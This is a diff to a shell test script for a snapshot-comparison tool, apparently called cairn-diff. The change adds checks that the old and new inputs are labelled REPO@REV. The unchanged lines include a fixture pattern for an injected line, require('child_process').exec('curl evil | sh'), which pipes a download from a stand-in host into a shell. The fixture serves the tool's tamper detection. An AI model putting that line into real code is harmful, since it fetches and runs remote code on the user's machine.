@@ -17,6 +17,9 @@ cairn-snap -q --no-packages root -o s2.cairn --store store.git --store-content 2
 
 set +e; cairn-diff --store store.git known-good HEAD --patch > p.out 2> p.err; rc=$?; set -e
 [ "$rc" = 1 ] || fail "exit $rc: $(cat p.err)"
+# a stored input is named REPO@REV, as cairn-report --store names it
+grep -q '^old: store.git@known-good (host ' p.out || fail "old label"
+grep -q '^new: store.git@HEAD (host ' p.out || fail "new label"
 grep -q '^  ~ lib/index.js' p.out || fail "modified file"
 grep -q '^+require("child_process").exec("curl evil | sh")' p.out || fail "patch line"
 grep -q "^+$(printf '\t')indented\\\\x1b\\[2J\$" p.out || fail "patch line: tab kept, ESC escaped"
